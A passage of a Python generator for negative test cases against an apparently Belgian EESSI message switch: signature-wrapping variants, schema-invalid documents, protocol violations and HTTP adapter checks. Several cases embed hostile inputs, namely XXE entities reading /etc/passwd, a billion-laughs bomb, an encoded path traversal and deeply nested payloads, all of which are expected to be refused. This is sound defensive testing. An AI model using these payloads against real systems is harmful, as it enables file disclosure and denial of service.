               f'<ds:Transform Algorithm="{ALG_EXC}"></ds:Transform><ds:Transform Algorithm="{ALG_ENV}"></ds:Transform>')])
sig("transform-inclusive-namespaces", "exclusive C14N with an InclusiveNamespaces PrefixList parameter",
    edits=[rep(f'<ds:Transform Algorithm="{ALG_EXC}"></ds:Transform>',
               f'<ds:Transform Algorithm="{ALG_EXC}"><ec:InclusiveNamespaces xmlns:ec="{ALG_EXC}" PrefixList="sbdh"/></ds:Transform>')])
sig("transforms-missing", "no Transforms element", edits=[rep("<ds:Transforms>", "<!--"), rep("</ds:Transforms>", "-->")])
sig("reference-uri-id", "Reference URI='#sed' pointing at an Id on the SED (wrapping-prone)",
    edits=[rep('URI=""', 'URI="#sed"'), rep('sedGVer="4"', 'Id="sed" sedGVer="4"')])
sig("reference-uri-missing", "Reference without URI attribute", edits=[rep(' URI=""', "")])
sig("reference-uri-external", "Reference URI to an external http resource", edits=[rep('URI=""', 'URI="http://127.0.0.1:9/doc"')])
sig("reference-uri-xpointer", "Reference URI='#xpointer(/)'", edits=[rep('URI=""', 'URI="#xpointer(/)"')])
sig("two-references", "two Reference elements in SignedInfo",
    edits=[rep("</ds:Reference>", "</ds:Reference><ds:Reference URI=\"\"><ds:DigestMethod Algorithm=\"" + ALG_SHA256 + "\"/><ds:DigestValue>AA==</ds:DigestValue></ds:Reference>")])
sig("digest-value-not-base64", "DigestValue is not base64",
    edits=[rep("<ds:DigestValue>", "<ds:DigestValue>%%%")])
sig("digest-value-empty", "DigestValue emptied",
    edits=[rep("<ds:DigestValue>", "<ds:DigestValue><!--"), rep("</ds:DigestValue>", "--></ds:DigestValue>")])
sig("signature-value-garbage", "SignatureValue replaced by other base64",
    edits=[rep("<ds:SignatureValue>", "<ds:SignatureValue>AAAA"), ])
sig("signature-value-empty", "SignatureValue emptied",
    edits=[rep("<ds:SignatureValue>", "<ds:SignatureValue><!--"), rep("</ds:SignatureValue>", "--></ds:SignatureValue>")])
sig("signature-object-element", "an ds:Object appended to the Signature",
    edits=[rep("</ds:KeyInfo>", "</ds:KeyInfo><ds:Object><x/></ds:Object>")])
sig("signature-empty-element", "an empty ds:Signature element in place of the real one",
    edits=[rep("{{SIGNATURE}}", f'<ds:Signature xmlns:ds="{DS}"/>')])
sig("signature-first-child", "the signature moved to the root's first child (before the header)",
    edits=[rep("{{SIGNATURE}}", ""), rep("<sbdh:StandardBusinessDocumentHeader>", "{{SIGNATURE}}<sbdh:StandardBusinessDocumentHeader>")])
sig("signature-between-header-and-sed", "the signature between the header and the SED",
    edits=[rep("{{SIGNATURE}}", ""), rep("</sbdh:StandardBusinessDocumentHeader>", "</sbdh:StandardBusinessDocumentHeader>{{SIGNATURE}}")])
sig("signature-inside-sed", "the signature moved to the SED element's last child",
    edits=[rep("{{SIGNATURE}}", ""), rep("</sed:A003>", "{{SIGNATURE}}</sed:A003>")])
sig("signature-not-last-child-comment-after", "a comment after the signature: it is still the last element child",
    expect="receipt", edits=[rep(SIG_END, SIG_END + "<!-- trailer -->")])
sig("signature-duplicated", "the signature twice at the end", edits=[rep("{{SIGNATURE}}", "{{SIGNATURE}}{{SIGNATURE}}")])
sig("signature-duplicated-first-and-last", "a copy of the signature before the header too",
    edits=[rep("<sbdh:StandardBusinessDocumentHeader>", "{{SIGNATURE}}<sbdh:StandardBusinessDocumentHeader>")])
sig("signature-copy-in-object", "a copy of the signature nested in a ds:Object of the real one",
    edits=[rep("</ds:KeyInfo></ds:Signature>", "</ds:KeyInfo><ds:Object>{{SIGNATURE}}</ds:Object></ds:Signature>")])
sig("signature-copy-inside-sed", "a copy of the signature inside the SED besides the real one",
    edits=[rep("</sed:A003>", "{{SIGNATURE}}</sed:A003>")])
sig("signature-prefix-changed", "the ds prefix renamed to dsig after signing (SignedInfo's canonical form changes)",
    edits=[rep("ds:", "dsig:", 0), rep("xmlns:ds=", "xmlns:dsig=")])
sig("signed-info-reordered", "SignatureMethod before CanonicalizationMethod",
    edits=[rep(f'<ds:CanonicalizationMethod Algorithm="{ALG_EXC}"></ds:CanonicalizationMethod><ds:SignatureMethod Algorithm="{ALG_RSA256}"></ds:SignatureMethod>',
               f'<ds:SignatureMethod Algorithm="{ALG_RSA256}"></ds:SignatureMethod><ds:CanonicalizationMethod Algorithm="{ALG_EXC}"></ds:CanonicalizationMethod>')])
sig("sender-swapped-after-signing", "the envelope Sender and the eessi-from header changed to NL:UWV after signing",
    edits=[rep(">NL:SVB<", ">NL:UWV<")], headers_set={"eessi-from": "NL:UWV"})
sig("replayed-signature-other-document", "the signature of this SED kept while the SED is replaced by another valid A003 content",
    edits=[rep("Lotte", "Anna", 0)])

# ---- schema (check 7): signed SEDs that break their XSD ----
def schema(slug, description, sed_xml, **envover):
    wire("schema", slug, "SCHEMA_INVALID", description, env=env_defaults(slug, **envover), sed_xml=sed_xml)

schema("bad-date-month-13", "DateBirth 1985-13-01", a003_with("1985-07-31", "1985-13-01"))
schema("bad-date-format", "DateBirth 31/07/1985", a003_with("1985-07-31", "31/07/1985"))
schema("date-with-time-zone", "StartDate 2026-01-01Z (a time zone the DateType pattern excludes)", a003_with("2026-01-01", "2026-01-01Z"))
schema("bad-country-name", "Country 'Belgium'", a003_with("<sed:Country>BE</sed:Country>", "<sed:Country>Belgium</sed:Country>"))
schema("bad-country-lower", "Country 'be'", a003_with("<sed:Country>BE</sed:Country>", "<sed:Country>be</sed:Country>"))
schema("bad-country-unlisted", "Country 'ZZ' (not in the code list)", a003_with("<sed:Country>BE</sed:Country>", "<sed:Country>ZZ</sed:Country>"))
schema("bad-sex", "Sex 'f'", a003_with("<sed:Sex>female</sed:Sex>", "<sed:Sex>f</sed:Sex>"))
schema("bad-article", "RelevantArticle 99", a003_with("13_1_a", "99"))
schema("bad-boolean", "IsDeterminationProvisional 'maybe'", a003_with("<sed:IsDeterminationProvisional>true", "<sed:IsDeterminationProvisional>maybe"))
schema("empty-family-name", "an empty FamilyName", a003_with("<sed:FamilyName>Verhoeven</sed:FamilyName>", "<sed:FamilyName></sed:FamilyName>"))
schema("family-name-padded", "FamilyName with leading and trailing spaces", a003_with("<sed:FamilyName>Verhoeven", "<sed:FamilyName> Verhoeven "))
schema("family-name-too-long", "FamilyName of 300 characters (max 255)", a003_with("<sed:FamilyName>Verhoeven", "<sed:FamilyName>" + "V" * 300))
schema("missing-insured-person", "no InsuredPerson", A003[: A003.index("<sed:InsuredPerson>")] + A003[A003.index("</sed:InsuredPerson>") + len("</sed:InsuredPerson>"):])
schema("missing-decision", "no Decision", A003[: A003.index("<sed:Decision>")] + A003[A003.index("</sed:Decision>") + len("</sed:Decision>"):])
schema("empty-sed", "an empty A003 element", f'<sed:A003 xmlns:sed="{NS42}" sedGVer="4" sedVer="2"/>')
schema("unknown-element", "an unknown element at the end of the SED", a003_with("</sed:A003>", "<sed:Unknown>x</sed:Unknown></sed:A003>"))
schema("children-out-of-order", "Forename before FamilyName",
       a003_with("<sed:FamilyName>Verhoeven</sed:FamilyName>\n      <sed:Forename>Lotte</sed:Forename>",
                 "<sed:Forename>Lotte</sed:Forename>\n      <sed:FamilyName>Verhoeven</sed:FamilyName>"))
schema("decision-twice", "Decision twice", a003_with("<sed:LocalCaseNumbers>", A003[A003.index("<sed:Decision>"): A003.index("</sed:Decision>") + len("</sed:Decision>")] + "<sed:LocalCaseNumbers>"))
schema("sed-gver-wrong", "sedGVer='5' (fixed 4)", a003_with('sedGVer="4"', 'sedGVer="5"'))
schema("sed-ver-missing", "sedVer missing", a003_with(' sedVer="2"', ""))
schema("unknown-attribute", "an unknown attribute on the SED element", a003_with('sedGVer="4"', 'extra="1" sedGVer="4"'))
schema("text-in-element-only-content", "text directly inside the SED element", a003_with("<sed:Decision>", "stray text<sed:Decision>"))
schema("xsi-type-any", "xsi:type='xs:string' on DateBirth to escape the date type",
       a003_with("<sed:DateBirth>1985-07-31", f'<sed:DateBirth xmlns:xsi="{XSI}" xmlns:xs="http://www.w3.org/2001/XMLSchema" xsi:type="xs:string">not a date'))
schema("xsi-nil", "xsi:nil='true' on a mandatory, non-nillable FamilyName",
       a003_with("<sed:FamilyName>Verhoeven</sed:FamilyName>", f'<sed:FamilyName xmlns:xsi="{XSI}" xsi:nil="true"/>'))
schema("foreign-namespace-element", "an element of another namespace inside PersonIdentification",
       a003_with("<sed:Sex>female</sed:Sex>", '<sed:Sex>female</sed:Sex><o:Religion xmlns:o="urn:other">x</o:Religion>'))
schema("a003-content-under-a004", "an A004 whose content is an A003's", A003.replace("sed:A003", "sed:A004"), sed="A004")


def buc_of(sed: str) -> str:
    for p in sorted((ROOT / "buc-definitions").glob("*.toml")):
        if p.name == "seds.toml":
            continue
        if f'sed = "{sed}"' in p.read_text(encoding="utf-8"):
            return p.stem
    return "LA_BUC_02"


RECEIVER_BY_SECTOR = {"LA": "BE:ONSS", "H": "BE:ONSS", "AW": "BE:FEDRIS", "S": "BE:INAMI", "P": "BE:SFP", "FB": "BE:OPGROEIEN", "UB": "BE:ONEM"}
for p in sorted((FIX / "sed" / "4.2" / "invalid").glob("*.xml")):
    sed_type = p.stem.split("-")[0]
    buc = buc_of(sed_type)
    to = RECEIVER_BY_SECTOR.get(buc.split("_")[0], "BE:ONSS")
    slug = "fixture-" + p.stem.lower()
    note = ""
    for line in p.read_text(encoding="utf-8").splitlines()[:3]:
        if "Invalid on purpose" in line:
            note = line.strip().removeprefix("<!--").removesuffix("-->").strip()
    wire("schema", slug, "SCHEMA_INVALID",
         f"fixtures/sed/4.2/invalid/{p.name} in a {buc} Start to {to}: {note}",
         env=env_defaults(slug, sed=sed_type, buc=buc, to=to), sed_xml=fixture_sed("invalid/" + p.stem))

# ---- recipient (check 8) ----
def recip(slug, description, **envover):
    wire("recipient", slug, "UNKNOWN_RECIPIENT", description, env=env_defaults(slug, **envover))

recip("recipient-unknown-institution", "BE:NOBODY is not in the registry", to="BE:NOBODY")
recip("recipient-foreign-institution", "NL:UWV is not served by access point BE", to="NL:UWV")
recip("recipient-foreign-unknown", "XX:FOO: another country, unknown", to="XX:FOO")
recip("recipient-without-competence", "BE:SFP does not handle LA_BUC_02", to="BE:SFP")
recip("recipient-role-not-handled", "BE:OPGROEIEN handles H_BUC_* only as Counterparty; here it is addressed as CaseOwner",
      to="BE:OPGROEIEN", buc="H_BUC_01", sed="H001", sender_role="Counterparty", receiver_role="CaseOwner")
recip("recipient-p-buc-to-onss", "P_BUC_01 to BE:ONSS, which handles LA and H BUCs", to="BE:ONSS", buc="P_BUC_01", sed="P2000")

# ---- protocol (check 10) ----
def proto(slug, expect, description, phase=None, sed_xml=None, sign="NL_SVB", parked=False, **envover):
    wire("protocol", slug, expect, description, env=env_defaults(slug, **envover), sed_xml=sed_xml, phase=phase,
         sign=sign, parked=parked)


PARKED = ("parked: its predecessor may be in flight, so the contract parks it durably and answers "
          "with a receipt; nothing is applied (UNKNOWN_CASE only once the parking time, 24 h, is over)")

proto("reply-a004-as-starter", "PROTOCOL_VIOLATION", "A004 (a reply) starting a case", sed="A004")
proto("reply-a012-as-starter", "PROTOCOL_VIOLATION", "A012 (an approval) starting a case", sed="A012")
proto("x001-as-starter", "PROTOCOL_VIOLATION", "X001 (closure) starting a case", sed="X001")
proto("p2000-in-la-buc-02", "PROTOCOL_VIOLATION", "P2000, a known SED of another sector, starting LA_BUC_02", sed="P2000")
proto("counterparty-starts", "PROTOCOL_VIOLATION", "the Counterparty starts the case (roles swapped)",
      sender_role="Counterparty", receiver_role="CaseOwner")
proto("both-case-owner", "PROTOCOL_VIOLATION", "sender and receiver both CaseOwner", receiver_role="CaseOwner")
proto("start-version-2", "PROTOCOL_VIOLATION", "Start with document version 2", document_version="2")
proto("start-with-related", "PROTOCOL_VIOLATION", "Start that answers another document", related=hid("x", "doc"))
proto("new-unknown-case", "receipt", "New for a case never seen: " + PARKED, action="New", parked=True)
proto("update-unknown-case", "receipt", "Update for a case never seen: " + PARKED, action="Update", document_version="2",
      parked=True)

BASE = "protocol-base-case"
base_case = hid(BASE, "case")
base_doc = hid(BASE, "doc")
proto(BASE, "receipt", "a valid A003 that opens the case the phase-2 protocol cases refer to")
proto("p2-start-existing-case", "PROTOCOL_VIOLATION", "a second Start for the existing case", phase=2, case_id=base_case)
proto("p2-new-a003-in-awaiting-reply", "PROTOCOL_VIOLATION", "New A003 while the case awaits the reply", phase=2,
      case_id=base_case, action="New")
proto("p2-owner-sends-counterparty-reply", "PROTOCOL_VIOLATION",
      "NL:SVB (case owner) sends A004 claiming to be Counterparty", phase=2, case_id=base_case, action="New",
      sed="A004", sender_role="Counterparty", receiver_role="CaseOwner", related=base_doc)
proto("p2-owner-sends-a004", "PROTOCOL_VIOLATION", "NL:SVB (case owner) sends A004, a counterparty's SED", phase=2,
      case_id=base_case, action="New", sed="A004", related=base_doc)
proto("p2-outsider-new", "PROTOCOL_VIOLATION", "NL:UWV (signing with its own key), not a participant, sends a New in the case", phase=2, sign="NL_UWV",
      case_id=base_case, action="New", sed="A004", **{"from": "NL:UWV"}, sender_role="Counterparty", receiver_role="CaseOwner", related=base_doc)
proto("p2-other-buc-for-case", "PROTOCOL_VIOLATION", "New in the case under another BUC type (LA_BUC_04)", phase=2,
      case_id=base_case, action="New", buc="LA_BUC_04", sed="A009")
proto("p2-related-unknown-document", "receipt", "New in the case answering a document it does not hold: " + PARKED,
      phase=2, parked=True,
      case_id=base_case, action="New", related=hid("nowhere", "doc"))
proto("p2-update-changes-sed-type", "PROTOCOL_VIOLATION", "Update of the A003 as an A004", phase=2,
      case_id=base_case, action="Update", document_id=base_doc, document_version="2", sed="A004")
proto("p2-update-unknown-document", "receipt", "Update of a document the case does not hold: " + PARKED, phase=2,
      parked=True,
      case_id=base_case, action="Update", document_version="2")
proto("p2-new-existing-document-id", "PROTOCOL_VIOLATION", "New reusing the base document id as version 2 (New is for new documents)", phase=2,
      case_id=base_case, action="New", document_id=base_doc, document_version="2", sed="A004")
proto("p2-same-version-other-content", "CONFLICT", "the base document version 1 again with other content (check 9)", phase=2,
      case_id=base_case, document_id=base_doc, sed_xml=A003.replace("Lotte", "Anna"))
proto("p2-same-document-id-in-new-case", "CONFLICT", "the base document id and version reused to start another case, other content", phase=2,
      document_id=base_doc, sed_xml=A003.replace("Lotte", "Hanna"))
proto("p2-same-version-same-content", "receipt",
      "the base document version 1 again, same content, new message_id: a receipt and no second effect (check 9)", phase=2,
      case_id=base_case, document_id=base_doc)
proto("p2-update-version-2", "receipt",
      "a valid Update of the base document to version 2 (phase 3: after the phase-2 cases that use version 2 with "
      "other content, which must not meet it)", phase=3,
      case_id=base_case, action="Update", document_id=base_doc, document_version="2")

# ---- duplicates (check 1) ----
wire("duplicates", "duplicate-refused-same-body", "SIGNATURE_INVALID",
     "a refused message sent twice with the same message_id: the second answer is the first, byte for byte",
     sign="ROGUE_NL_SVB", duplicate="same")
wire("duplicates", "duplicate-accepted-same-body", "receipt",
     "an accepted message sent twice: the receipt again, byte for byte, no second effect", duplicate="same")
wire("duplicates", "duplicate-other-body", "MALFORMED",
     "a refused message's message_id reused with another body: CONFLICT for the second",
     headers_set={"eessi-sed": "A004"}, duplicate="other-body")

# ================================================================ HTTP cases

ONSS = "/api/v1/national/onss-posting"
INASTI = "/api/v1/national/inasti-decision"
DOCS = "/api/v1/documents"
BAD = "urn:problem-type:belgif:badRequest"
NOTFOUND = "urn:problem-type:belgif:resourceNotFound"
TOOBIG = "urn:problem-type:belgif:payloadTooLarge"
PROTO = "urn:problem-type:eessi-switch:protocolViolation"
MEDIA = "urn:problem-type:eessi-switch:unsupportedMediaType"

onss = (FIX / "national" / "onss-posting.xml").read_text(encoding="utf-8")
inasti = (FIX / "national" / "inasti-decision.xml").read_text(encoding="utf-8")


def onss_with(find, repl, count=1):
    assert find in onss, find
    return onss.replace(find, repl, count)


def inasti_with(find, repl, count=1):
    assert find in inasti, find
    return inasti.replace(find, repl, count)


for p in sorted((FIX / "national" / "invalid").glob("*.xml")):
    route = ONSS if p.name.startswith("onss-posting") else INASTI
    http("adapter-fixtures", "fixture-" + p.stem, route, 400, BAD,
         f"fixtures/national/invalid/{p.name}", body=p.read_bytes())

http("adapter-xxe", "onss-xxe-file", ONSS, 400, BAD, "external entity file:///etc/passwd in LastName",
     body=onss_with("<PostingNotification", '<!DOCTYPE PostingNotification [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PostingNotification').replace("<LastName>Janssens", "<LastName>&x;"))
http("adapter-xxe", "onss-xxe-parameter", ONSS, 400, BAD, "external parameter entity on an http URL",
     body=onss_with("<PostingNotification", '<!DOCTYPE PostingNotification [<!ENTITY % p SYSTEM "http://127.0.0.1:9/e.dtd"> %p;]>\n<PostingNotification'))
http("adapter-xxe", "onss-billion-laughs", ONSS, 400, BAD, "billion laughs",
     body=onss_with("<PostingNotification", "<!DOCTYPE PostingNotification [" + "".join(laughs) + "]>\n<PostingNotification").replace("<LastName>Janssens", "<LastName>&lol9;"))
http("adapter-xxe", "inasti-xxe-external-dtd", INASTI, 400, BAD, "an external DTD",
     body=inasti_with("<LegislationDecision", '<!DOCTYPE LegislationDecision SYSTEM "file:///etc/passwd">\n<LegislationDecision'))
http("adapter-malformed", "onss-empty", ONSS, 400, BAD, "an empty body", body="")
http("adapter-malformed", "onss-json", ONSS, 415, MEDIA, "a JSON body (a national route takes XML only)", body='{"Sender": "BE:ONSS"}', content_type="application/json")
http("adapter-malformed", "onss-truncated", ONSS, 400, BAD, "the message cut in half", body=onss[: len(onss) // 2])
http("adapter-malformed", "onss-invalid-utf8", ONSS, 400, BAD, "an invalid UTF-8 byte", body=onss.encode().replace(b"Janssens", b"Jans\xffsens"))
http("adapter-malformed", "onss-utf16", ONSS, 400, BAD, "UTF-16 with BOM", body=b"\xff\xfe" + onss.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le"))
http("adapter-malformed", "onss-depth-257", ONSS, 400, BAD, "257 levels deep",
     body=onss_with("<Sender>", "<x>" * 256 + "</x>" * 256 + "<Sender>"))
http("adapter-malformed", "onss-nul-char", ONSS, 400, BAD, "a NUL character", body=onss_with("Janssens", "Jans\x00sens"))
http("adapter-namespace", "onss-no-namespace", ONSS, 400, BAD, "no namespace at all",
     body=onss_with(' xmlns="urn:be:onss:limosa:posting:1"', ""))
http("adapter-namespace", "onss-inasti-namespace", ONSS, 400, BAD, "INASTI's namespace sent to the ONSS adapter",
     body=onss_with("urn:be:onss:limosa:posting:1", "urn:be:inasti:al-decision:1"))
http("adapter-namespace", "inasti-message-to-onss", ONSS, 400, BAD, "an INASTI decision posted to the ONSS adapter", body=inasti)
http("adapter-namespace", "onss-message-to-inasti", INASTI, 400, BAD, "an ONSS posting posted to the INASTI adapter", body=onss)
for el in ["Sender", "Receiver", "Worker", "Employer", "HostWorkplaces", "Posting"]:
    s = onss.index(f"<{el}>")
    e_ = onss.index(f"</{el}>") + len(f"</{el}>")
    http("adapter-missing", f"onss-missing-{el.lower()}", ONSS, 400, BAD, f"{el} removed", body=onss[:s] + onss[e_:])
for el in ["LastName", "BirthDate", "Gender", "Nationality"]:
    s = onss.index(f"<{el}>")
    e_ = onss.index(f"</{el}>") + len(f"</{el}>")
    http("adapter-missing", f"onss-missing-worker-{el.lower()}", ONSS, 400, BAD, f"Worker/{el} removed", body=onss[:s] + onss[e_:])
for el in ["Person", "Decision"]:
    s = inasti.index(f"<{el}>")
    e_ = inasti.index(f"</{el}>") + len(f"</{el}>")
    http("adapter-missing", f"inasti-missing-{el.lower()}", INASTI, 400, BAD, f"{el} removed", body=inasti[:s] + inasti[e_:])
for slug, f, r, d in [
    ("onss-gender-3", "<Gender>1</Gender>", "<Gender>3</Gender>", "gender code 3"),
    ("onss-article-13", "<Article>12_1</Article>", "<Article>13_1_a</Article>", "article 13_1_a in a posting"),
    ("onss-country-lower", "<Nationality>BE</Nationality>", "<Nationality>be</Nationality>", "nationality 'be'"),
    ("onss-ssin-short", "<Ssin>90031412310</Ssin>", "<Ssin>9003141231</Ssin>", "a 10-digit SSIN"),
    ("onss-company-number", "<CompanyNumber>0123456749</CompanyNumber>", "<CompanyNumber>2123456749</CompanyNumber>", "a company number starting with 2"),
    ("onss-date-feb-30", "<StartDate>2026-03-02</StartDate>", "<StartDate>2026-02-30</StartDate>", "StartDate 2026-02-30"),
    ("onss-amendment-yes", "<Amendment>false</Amendment>", "<Amendment>yes</Amendment>", "Amendment 'yes'"),
    ("onss-sender-malformed", "<Sender>BE:ONSS</Sender>", "<Sender>be:onss</Sender>", "Sender be:onss"),
    ("onss-case-id-upper", "<Receiver>NL:SVB</Receiver>", "<Receiver>NL:SVB</Receiver><CaseId>ABCDEF0123456789ABCDEF0123456789</CaseId>", "CaseId in upper-case hex"),
    ("onss-unknown-element", "<Posting>", "<Extra/><Posting>", "an unknown element"),
    ("onss-lastname-blank", "<LastName>Janssens</LastName>", "<LastName> </LastName>", "a blank LastName"),
]:
    http("adapter-codes", slug, ONSS, 400, BAD, d, body=onss_with(f, r))
http("adapter-routing", "onss-sender-foreign", ONSS, 400, BAD, "Sender NL:SVB: not a Belgian institution of this access point",
     body=onss_with("<Sender>BE:ONSS</Sender>", "<Sender>NL:SVB</Sender>"))
http("adapter-routing", "onss-sender-unknown", ONSS, 400, BAD, "Sender BE:NOBODY: not in the registry",
     body=onss_with("<Sender>BE:ONSS</Sender>", "<Sender>BE:NOBODY</Sender>"))
http("adapter-routing", "onss-receiver-belgian", ONSS, 400, BAD, "Receiver BE:INASTI: the receiver must be foreign",
     body=onss_with("<Receiver>NL:SVB</Receiver>", "<Receiver>BE:INASTI</Receiver>"))
http("adapter-routing", "onss-receiver-unknown", ONSS, 400, BAD, "Receiver XX:FOO: not in the registry",
     body=onss_with("<Receiver>NL:SVB</Receiver>", "<Receiver>XX:FOO</Receiver>"))
http("adapter-routing", "onss-case-id-empty", ONSS, 400, BAD, "an empty CaseId element (absent means a new case; empty is invalid)",
     body=onss_with("<Receiver>NL:SVB</Receiver>", "<Receiver>NL:SVB</Receiver><CaseId></CaseId>"))
http("adapter-routing", "no-such-adapter", "/api/v1/national/no-such-adapter", 404, NOTFOUND, "an adapter that does not exist", body=onss)
http("adapter-routing", "adapter-path-traversal", "/api/v1/national/..%2f..%2fetc%2fpasswd", 404, NOTFOUND, "an encoded path traversal as adapter name", body=onss)
http("size", "onss-exactly-10mib", ONSS, 400, BAD, "exactly 10 MiB of 'a': read whole (not 413), then refused as not XML",
     generate={"fill": "a", "total": MIB10})
http("size", "onss-10mib-plus-one", ONSS, 413, TOOBIG, "10 MiB + 1 byte", generate={"fill": "a", "total": MIB10 + 1})
http("size", "documents-10mib-plus-one", DOCS, 413, TOOBIG, "10 MiB + 1 byte of JSON", content_type="application/json",
     generate={"fill": " ", "total": MIB10 + 1})
http("size", "documents-exactly-10mib", DOCS, 400, BAD, "exactly 10 MiB of spaces as JSON: read, then refused as not JSON",
     content_type="application/json", generate={"fill": " ", "total": MIB10})


def doc_json(slug, body=None, **over):
    d = {"from": "BE:ONSS", "to": "NL:SVB", "buc": "LA_BUC_02", "sed": "A003",
         "body": body if body is not None else (FIX / "sed" / "4.2" / "A003.xml").read_text(encoding="utf-8")}
    for k, v in over.items():
        if v is None:
            d.pop(k, None)
        else:
            d[k] = v
    return json.dumps(d, ensure_ascii=False, indent=1)


def docs(slug, status, typ, description, body=None, raw=None, **over):
    http("documents", slug, DOCS, status, typ, description, content_type="application/json",
         body=raw if raw is not None else doc_json(slug, body, **over), ext="json")

_a003_full = (FIX / "sed" / "4.2" / "A003.xml").read_text(encoding="utf-8")
docs("documents-not-json", 400, BAD, "not JSON", raw="{not json")
docs("documents-json-array", 400, BAD, "a JSON array", raw="[]")
docs("documents-deep-json", 400, BAD, "JSON nested 10,000 arrays deep", raw="[" * 10000 + "]" * 10000)
docs("documents-unknown-field", 400, BAD, "an unknown field", extra=1)
http("documents", "documents-missing-body", DOCS, 400, BAD, "no body field", content_type="application/json", ext="json",
     body=json.dumps({"from": "BE:ONSS", "to": "NL:SVB", "buc": "LA_BUC_02", "sed": "A003"}))
docs("documents-bad-ids", 400, BAD, "from, to and buc malformed", **{"from": "be:onss", "to": "XX", "buc": "LA BUC"})
docs("documents-foreign-sender", 400, BAD, "from NL:SVB: not an institution of BE", **{"from": "NL:SVB", "to": "DE:DRV"})
docs("documents-unknown-buc", 400, BAD, "BUC LA_BUC_99", buc="LA_BUC_99")
docs("documents-unknown-sed", 400, BAD, "SED A999", sed="A999")
docs("documents-version-4-9", 400, BAD, "sedVersion 4.9", sedVersion="4.9")
docs("documents-body-doctype", 400, BAD, "a SED body with an XXE DOCTYPE",
     body=_a003_full.replace("<sed:A003", '<!DOCTYPE sed:A003 [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<sed:A003', 1).replace("Verhoeven", "&x;", 1))
docs("documents-body-wrong-namespace", 400, BAD, "a SED body in the 4.1 namespace", body=_a003_full.replace("ns/4_2", "ns/4_1"))
docs("documents-body-wrong-root", 400, BAD, "sed says A003, the body is an A004", body=(FIX / "sed" / "4.2" / "A004.xml").read_text(encoding="utf-8"))
docs("documents-body-schema-invalid", 400, BAD, "a SED body with a bad date", body=(FIX / "sed" / "4.2" / "invalid" / "A003-bad-date.xml").read_text(encoding="utf-8"))
docs("documents-body-not-xml", 400, BAD, "a SED body that is not XML", body="not xml")
docs("documents-body-too-deep", 400, BAD, "a SED body 300 levels deep", body=_a003_full.replace("<sed:Decision>", "<a>" * 300 + "</a>" * 300 + "<sed:Decision>", 1))
docs("documents-a004-starts", 409, PROTO, "A004 cannot start LA_BUC_02", sed="A004", body=(FIX / "sed" / "4.2" / "A004.xml").read_text(encoding="utf-8"))
# A case named in the body that does not exist: the Belgif REST guide's 400 with a
# `referencedResourceNotFound` issue (the resource of the URL exists; what the body refers to does not).
docs("documents-unknown-case", 400, BAD, "a New in a case that does not exist", caseId=hid("nocase2", "case"),
     sed="A004", body=(FIX / "sed" / "4.2" / "A004.xml").read_text(encoding="utf-8"))

# ================================================================ write


def compact(data: bytes, seds: set) -> bytes:
    """Replace a fixture SED element copied verbatim by {{FIXTURE:<name>}}, which the runner
    expands from fixtures/sed/4.2/ before anything else: keeps the committed corpus small."""
    for name in sorted(seds):
        p = FIX / "sed" / "4.2" / f"{name}.xml"
        if not p.is_file():
            continue
        text = fixture_sed(name).encode("utf-8")
        data = data.replace(text, b"{{FIXTURE:" + name.encode() + b"}}")
    return data


def write_all():
    for sub in ("wire", "http"):
        d = HERE / sub
        if d.exists():
            shutil.rmtree(d)
        d.mkdir(parents=True)
    seen = set()
    for i, c in enumerate(WIRE, start=1):
        assert c["slug"] not in seen, c["slug"]
        seen.add(c["slug"])
        name = f"{i:03d}-{c['slug']}"
        body_file = None
        if c["body"] is not None:
            body_file = name + ".xml"
            data = c["body"].encode("utf-8") if isinstance(c["body"], str) else c["body"]
            data = compact(data, {"A003", c["env"]["eessi-sed"]})
            (HERE / "wire" / body_file).write_bytes(data)
        top = {
            "description": c["description"],
            "category": c["category"],
            "expect": c["expect"],
            "known_bug": c["known_bug"],
            "body": body_file,
            "sign": c["sign"] if body_file or c["generate"].get("insert_before") else None,
            "phase": c["phase"],
            "parked": c["parked"] or None,
            "duplicate": c["duplicate"],
            "headers_remove": c["headers_remove"],
            "properties_remove": c["properties_remove"],
        }
        if c["generate"] and body_file is None and not ({"fill", "fill_hex"} & c["generate"].keys()):
            raise SystemExit(f"{name}: generate without a body needs fill")
        tables = {
            "envelope": {k: v for k, v in zip([k for _, k in HEADERS], [c["env"][h] for h, _ in HEADERS])},
            "headers_set": c["headers_set"],
            "headers_int": c["headers_int"],
            "headers_bool": c["headers_bool"],
            "properties_set": c["properties_set"],
            "generate": c["generate"],
        }
        edits = []
        for ed in c["edits"]:
            ed = dict(ed)
            if ed.get("count") == 1:
                ed.pop("count")
            edits.append(ed)
        (HERE / "wire" / (name + ".toml")).write_text(toml(top, tables, {"edit": edits}), encoding="utf-8")
    for i, c in enumerate(HTTP, start=1):
        assert c["slug"] not in seen, c["slug"]
        seen.add(c["slug"])
        name = f"{i:03d}-{c['slug']}"
        body_file = None
        if c["body"] is not None:
            body_file = f"{name}.{c['ext']}"
            data = c["body"].encode("utf-8") if isinstance(c["body"], str) else c["body"]
            (HERE / "http" / body_file).write_bytes(data)
        top = {
            "description": c["description"],
            "category": c["category"],
            "route": c["route"],
            "content_type": c["content_type"],
            "body": body_file,
            "expect_status": c["expect_status"],
            "expect_type": c["expect_type"],
            "known_bug": c["known_bug"],
        }
        (HERE / "http" / (name + ".toml")).write_text(toml(top, {"generate": c["generate"]}, {}), encoding="utf-8")
    total = sum(p.stat().st_size for p in HERE.rglob("*") if p.is_file())
    by = {}
    for c in WIRE:
        by[c["expect"]] = by.get(c["expect"], 0) + 1
    print(f"wire cases: {len(WIRE)} {dict(sorted(by.items()))}")
    print(f"http cases: {len(HTTP)}")
    print(f"corpus size: {total} bytes")
    if total > 2_000_000:
        raise SystemExit("the committed corpus must stay under 2 MB")


if __name__ == "__main__":
    write_all()
    sys.exit(0)
